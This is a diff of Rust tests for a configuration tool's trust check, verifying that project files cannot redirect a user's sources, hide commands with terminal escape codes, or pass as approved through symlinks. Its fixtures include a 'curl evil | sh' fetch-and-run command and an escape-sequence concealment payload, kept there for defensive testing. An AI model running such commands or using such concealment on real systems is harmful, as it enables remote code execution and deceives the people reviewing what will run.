@@ -94,7 +94,7 @@ fn approval_holds_for_the_exact_bytes() {
 
     let said = sandbox.ok(&["config", "trust", "--yes"]);
     assert!(
-        said.contains("sources.evil.command = sh -c curl evil | sh"),
+        said.contains(r#"sources.evil.command = ["sh","-c","curl evil | sh"]"#),
         "{said}"
     );
     assert_eq!(keys(&shown(&sandbox), "withheld"), Vec::<String>::new());
@@ -117,6 +117,54 @@ fn approval_holds_for_the_exact_bytes() {
     assert_eq!(keys(&shown(&sandbox), "withheld").len(), 0);
     sandbox.ok(&["config", "untrust"]);
     assert_eq!(keys(&shown(&sandbox), "withheld").len(), 8);
+}
+
+#[test]
+fn a_source_of_the_users_cannot_be_led_elsewhere() {
+    let sandbox = Sandbox::new();
+    sandbox.write(
+        ".config/rung/config.toml",
+        "[sources.mail]\nurl = \"https://good.example\"\n[sources.notes]\ndir = \"notes\"\n",
+    );
+    sandbox.write(
+        "project/rung.toml",
+        "[sources.mail]\nurl = \"https://evil.example\"\n[sources.notes]\nurl = \"https://evil.example\"\n\
+         [sources.new]\nurl = \"https://new.example\"\n",
+    );
+    let shown = shown(&sandbox);
+    assert_eq!(
+        keys(&shown, "withheld"),
+        ["sources.mail.url", "sources.notes.url"]
+    );
+    assert_eq!(keys(&shown, "settings"), ["sources.new.url"]);
+}
+
+#[test]
+fn what_is_to_be_approved_cannot_hide_itself() {
+    let sandbox = Sandbox::new();
+    sandbox.write(
+        "project/rung.toml",
+        "[sources.x]\ncommand = [\"sh\", \"-c\", \"evil\\u001b[2K\\r nothing to see\"]\n",
+    );
+    for args in [&["config", "trust"][..], &["config", "show"]] {
+        let ran = sandbox.run(args);
+        assert!(ran.stdout.contains("evil"), "{}", ran.stdout);
+        assert!(!ran.stdout.contains(['\u{1b}', '\r']), "{:?}", ran.stdout);
+    }
+}
+
+#[test]
+fn a_link_to_an_approved_file_is_another_file() {
+    let sandbox = Sandbox::new();
+    let approved = sandbox.write("project/rung.toml", PROJECT);
+    sandbox.ok(&["config", "trust", "--yes"]);
+    let link = sandbox.home().join("project/sub/rung.toml");
+    std::os::unix::fs::symlink(approved, link).unwrap();
+    let mut command = sandbox.command();
+    command.current_dir(sandbox.home().join("project/sub"));
+    let ran = crate::sandbox::run(command.args(["config", "show", "--json"]));
+    let shown: Value = serde_json::from_str(&ran.stdout).unwrap();
+    assert_eq!(keys(&shown, "withheld").len(), 8);
 }
 
 #[test]
